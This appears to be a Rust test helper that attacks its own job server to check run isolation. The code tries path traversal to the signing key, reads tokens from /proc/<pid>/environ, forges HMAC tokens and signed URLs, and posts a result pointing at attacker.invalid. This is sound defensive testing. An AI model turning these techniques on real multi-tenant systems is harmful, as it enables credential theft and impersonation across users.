//! `hostile`: an algorithm that attacks the server and other runs, for the isolation test
//! (`cli/tests/it/hostile.rs`). It is not installed by the example templates.
//!
//! Payload `{"mode": "victim", "seconds": 30}`: writes `victim-secret` into its work directory
//! and sleeps, to be attacked by another run.
//!
//! Payload `{"mode": "attack", "dataDir": "/abs/data", "victim": {"id": "...", "algorithm":
//! "hostile"}}`: tries to read the server's signing key (relative and absolute paths), run store,
//! object store and object files, to list the work root and to reach the victim's work directory
//! (by its run id, through `/proc/<pid>/cwd`) and token (`/proc/<pid>/environ`), to complete the
//! victim with its own token and with a forged one (signed with the stolen key when it got the
//! key), and to fetch the victim's payload by changing the id in its own signed URL. Its result
//! is the report `{"attempts": [{"name", "outcome": "refused"|"succeeded", "detail"}], ...}`.

use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::nexus::Outcome;

/// File the victim writes into its work directory.
pub const VICTIM_FILE: &str = "victim-secret";
/// Its content.
pub const VICTIM_SECRET: &str = "VICTIM-SECRET-7f3a";

/// What the attack knows besides its payload: its own URL, token and receiver.
#[derive(Debug, Clone)]
pub struct Own {
    pub request_id: String,
    pub sas_uri: String,
    pub run_token: String,
    pub receiver_url: String,
}

impl Own {
    /// Reads the run's environment; `sas_uri` is the `--sas-uri` argument.
    pub fn from_env(request_id: &str, sas_uri: &str) -> Self {
        let env = |n: &str| std::env::var(n).unwrap_or_default();
        Own {
            request_id: request_id.to_owned(),
            sas_uri: sas_uri.to_owned(),
            run_token: env("NEXUS__RUN_TOKEN"),
            receiver_url: env("NEXUS__RECEIVER_URL"),
        }
    }
}

/// Runs the mode the payload names.
pub fn run(payload: &[u8], own: &Own) -> Outcome {
    let v: Value = match serde_json::from_slice(payload) {
        Ok(v) => v,
        Err(e) => return Outcome::invalid_input(format!("payload is not JSON: {e}")),
    };
    match v["mode"].as_str() {
        Some("victim") => victim(v["seconds"].as_u64().unwrap_or(30)),
        Some("attack") => attack(&v, own),
        other => Outcome::invalid_input(format!("mode {other:?} is neither victim nor attack")),
    }
}

fn victim(seconds: u64) -> Outcome {
    if let Err(e) = std::fs::write(VICTIM_FILE, VICTIM_SECRET) {
        return Outcome::failure("victim cannot write", e.to_string());
    }
    let cwd = std::env::current_dir().unwrap_or_default();
    println!("[hostile] victim waiting in {}", cwd.display());
    std::thread::sleep(Duration::from_secs(seconds));
    Outcome::Success(json!({"victim": true}))
}

/// One attempt's report line.
struct Report(Vec<Value>);

impl Report {
    fn refused(&mut self, name: &str, detail: impl Into<String>) {
        self.push(name, "refused", detail.into());
    }

    fn succeeded(&mut self, name: &str, detail: impl Into<String>) {
        self.push(name, "succeeded", detail.into());
    }

    fn push(&mut self, name: &str, outcome: &str, detail: String) {
        println!("[hostile] {name}: {outcome} ({detail})");
        self.0
            .push(json!({"name": name, "outcome": outcome, "detail": detail}));
    }

    /// Reading a file: succeeded when any byte came back.
    fn read(&mut self, name: &str, path: &Path) -> Option<Vec<u8>> {
        match std::fs::read(path) {
            Ok(bytes) => {
                self.succeeded(
                    name,
                    format!("read {} bytes of {}", bytes.len(), path.display()),
                );
                Some(bytes)
            }
            Err(e) => {
                self.refused(name, format!("{}: {e}", path.display()));
                None
            }
        }
    }

    /// Listing a directory: succeeded when it could be listed.
    fn list(&mut self, name: &str, dir: &Path) -> Option<Vec<PathBuf>> {
        match std::fs::read_dir(dir) {
            Ok(entries) => {
                let found: Vec<PathBuf> =
                    entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
                self.succeeded(
                    name,
                    format!("listed {} entries of {}", found.len(), dir.display()),
                );
                Some(found)
            }
            Err(e) => {
                self.refused(name, format!("{}: {e}", dir.display()));
                None
            }
        }
    }

    /// An HTTP attempt: succeeded on any 2xx answer.
    fn http(&mut self, name: &str, result: Result<reqwest::blocking::Response, reqwest::Error>) {
        match result {
            Ok(resp) if resp.status().is_success() => {
                let status = resp.status();
                self.succeeded(
                    name,
                    format!("HTTP {status}: {}", resp.text().unwrap_or_default()),
                );
            }
            Ok(resp) => {
                let status = resp.status();
                self.refused(
                    name,
                    format!(
                        "HTTP {}: {}",
                        status.as_u16(),
                        resp.text().unwrap_or_default()
                    ),
                );
            }
            Err(e) => self.refused(name, format!("request failed: {e}")),
        }
    }
}

fn attack(v: &Value, own: &Own) -> Outcome {
    let data = PathBuf::from(v["dataDir"].as_str().unwrap_or_default());
    let victim_id = v["victim"]["id"].as_str().unwrap_or_default().to_owned();
    let victim_alg = v["victim"]["algorithm"]
        .as_str()
        .unwrap_or("hostile")
        .to_owned();
    let cwd = std::env::current_dir().unwrap_or_default();
    let work_root = cwd.parent().map(Path::to_path_buf).unwrap_or_default();
    let mut r = Report(Vec::new());

    // The server's files.
    let mut key = r.read("signing.key by ../signing.key", Path::new("../signing.key"));
    let depth = cwd.components().count().saturating_sub(1);
    let via_root = PathBuf::from("../".repeat(depth))
        .join(data.strip_prefix("/").unwrap_or(&data))
        .join("signing.key");
    if let Some(k) = r.read("signing.key by a relative path through /", &via_root) {
        key = Some(k);
    }
    if let Some(k) = r.read(
        "signing.key by its absolute path",
        &data.join("signing.key"),
    ) {
        key = Some(k);
    }
    r.read("runs.db", &data.join("runs.db"));
    r.read("objects.db", &data.join("objects.db"));
    r.list("list the data directory", &data);
    let objects = r.list("list objects/", &data.join("objects"));
    let mut files = Vec::new();
    let mut pending = objects.unwrap_or_default();
    while let Some(p) = pending.pop() {
        if p.is_dir() {
            if let Ok(rd) = std::fs::read_dir(&p) {
                pending.extend(rd.filter_map(|e| e.ok().map(|e| e.path())));
            }
        } else {
            files.push(p);
        }
    }
    match files.first() {
        Some(f) => {
            r.read("read a file under objects/", f);
        }
        None => r.refused(
            "read a file under objects/",
            "no object file could be found",
        ),
    }

    // Other runs' work directories and processes.
    r.list("list the work root", &work_root);
    r.list(
        "open the victim's work directory by its run id",
        &work_root.join(&victim_id),
    );
    let (dirs, tokens, inspected) = proc_scan(&cwd, &work_root);
    let secret = dirs.iter().find_map(|d| {
        std::fs::read_to_string(d.join(VICTIM_FILE))
            .ok()
            .map(|s| (d, s))
    });
    match secret {
        Some((d, s)) => r.succeeded(
            "reach another run's work directory through /proc/<pid>/cwd",
            format!("read {} from {}: {s}", VICTIM_FILE, d.display()),
        ),
        None => r.refused(
            "reach another run's work directory through /proc/<pid>/cwd",
            format!(
                "{inspected} processes inspected, {} foreign work directories seen, none readable",
                dirs.len()
            ),
        ),
    }
    match tokens.first() {
        Some(t) => r.succeeded(
            "steal another run's token through /proc/<pid>/environ",
            format!("found a token of {} characters", t.len()),
        ),
        None => r.refused(
            "steal another run's token through /proc/<pid>/environ",
            format!("{inspected} processes inspected, no foreign NEXUS__RUN_TOKEN readable"),
        ),
    }

    // The API, as another run.
    let http = match reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(20))
        .build()
    {
        Ok(h) => h,
        Err(e) => return Outcome::failure("cannot build an HTTP client", e.to_string()),
    };
    let complete_url = crate::nexus::completion_url(&own.receiver_url, &victim_alg, &victim_id);
    let foreign = json!({"resultUri": "http://attacker.invalid/forged-result"});
    r.http(
        "complete the victim with this run's own token",
        http.post(&complete_url)
            .bearer_auth(&own.run_token)
            .json(&foreign)
            .send(),
    );
    let exp = now_secs() + 3600;
    let forged = match &key {
        Some(k) => format!(
            "v1.{exp}.{}",
            b64url(&hmac(
                k,
                &[
                    b"run-token",
                    victim_id.as_bytes(),
                    exp.to_string().as_bytes()
                ]
            ))
        ),
        None => format!(
            "v1.{exp}.{}",
            b64url(&hmac(b"guess", &[b"run-token", victim_id.as_bytes()]))
        ),
    };
    let with = if key.is_some() {
        "the stolen key"
    } else {
        "a guessed key"
    };
    r.http(
        &format!("complete the victim with a token forged with {with}"),
        http.post(&complete_url)
            .bearer_auth(&forged)
            .json(&foreign)
            .send(),
    );
    let swapped = own.sas_uri.replace(&own.request_id, &victim_id);
    if swapped == own.sas_uri {
        r.refused(
            "fetch the victim's payload by changing the id in this run's signed URL",
            "this run's URL does not contain its id",
        );
    } else {
        r.http(
            "fetch the victim's payload by changing the id in this run's signed URL",
            http.get(&swapped).send(),
        );
    }
    if let Some((base, _)) = swapped.split_once('?') {
        let path = base
            .find("/data/")
            .map(|i| base[i..].to_owned())
            .unwrap_or_default();
        let k: &[u8] = key.as_deref().unwrap_or(b"guess");
        let sig = b64url(&hmac(
            k,
            &[
                b"nexus-url-v1",
                b"GET",
                path.as_bytes(),
                exp.to_string().as_bytes(),
            ],
        ));
        r.http(
            &format!("fetch the victim's payload with a URL signed with {with}"),
            http.get(format!("{base}?exp={exp}&sig={sig}")).send(),
        );
    }
    Outcome::Success(json!({
        "attempts": r.0,
        "cwd": cwd.display().to_string(),
        "uid": std::fs::read_to_string("/proc/self/status").ok().and_then(|s| s.lines().find(|l| l.starts_with("Uid:")).map(str::to_owned)),
    }))
}

/// Other runs' work directories (from `/proc/<pid>/cwd` links under `work_root`) and run tokens
/// (from `/proc/<pid>/environ`) this process can read, and how many processes it looked at.
fn proc_scan(own_cwd: &Path, work_root: &Path) -> (Vec<PathBuf>, Vec<String>, usize) {
    let me = std::process::id().to_string();
    let own_token = std::env::var("NEXUS__RUN_TOKEN").unwrap_or_default();
    let mut dirs = Vec::new();
    let mut tokens = Vec::new();
    let mut inspected = 0;
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return (dirs, tokens, inspected);
    };
    for entry in rd.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !name.bytes().all(|b| b.is_ascii_digit()) || name == me {
            continue;
        }
        inspected += 1;
        let p = entry.path();
        if let Ok(cwd) = std::fs::read_link(p.join("cwd"))
            && cwd.starts_with(work_root)
            && cwd != own_cwd
        {
            dirs.push(cwd);
        }
        if let Ok(env) = std::fs::read(p.join("environ")) {
            for var in env.split(|b| *b == 0) {
                if let Some(t) = var.strip_prefix(b"NEXUS__RUN_TOKEN=") {
                    let t = String::from_utf8_lossy(t).into_owned();
                    if t != own_token {
                        tokens.push(t);
                    }
                }
            }
        }
    }
    (dirs, tokens, inspected)
}

fn now_secs() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX / 2))
        .unwrap_or(0)
}

/// HMAC-SHA256 over length-prefixed fields, as the server's signer computes it.
fn hmac(key: &[u8], fields: &[&[u8]]) -> [u8; 32] {
    let mut msg = Vec::new();
    for f in fields {
        msg.extend_from_slice(&u32::try_from(f.len()).unwrap_or(u32::MAX).to_le_bytes());
        msg.extend_from_slice(f);
    }
    hmac_sha256(key, &msg)
}

/// HMAC-SHA256 (RFC 2104).
fn hmac_sha256(key: &[u8], msg: &[u8]) -> [u8; 32] {
    let mut k = [0u8; 64];
    if key.len() > 64 {
        k[..32].copy_from_slice(&Sha256::digest(key));
    } else {
        k[..key.len()].copy_from_slice(key);
    }
    let mut inner = Sha256::new();
    inner.update(k.map(|b| b ^ 0x36));
    inner.update(msg);
    let mut outer = Sha256::new();
    outer.update(k.map(|b| b ^ 0x5c));
    outer.update(inner.finalize());
    outer.finalize().into()
}

/// base64url without padding.
fn b64url(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..=chunk.len() {
            out.push(char::from(A[((n >> (18 - 6 * i)) & 63) as usize]));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hmac_and_base64_match_known_vectors() {
        // RFC 4231, test case 2.
        let tag = hmac_sha256(b"Jefe", b"what do ya want for nothing?");
        let hex: String = tag.iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(
            hex,
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
        );
        assert_eq!(
            hmac(b"k", &[b"ab"]),
            hmac_sha256(b"k", b"\x02\x00\x00\x00ab")
        );
        assert_eq!(b64url(b"\xfb\xff"), "-_8");
        assert_eq!(b64url(b"Man"), "TWFu");
        assert_eq!(b64url(b"Ma"), "TWE");
    }
}
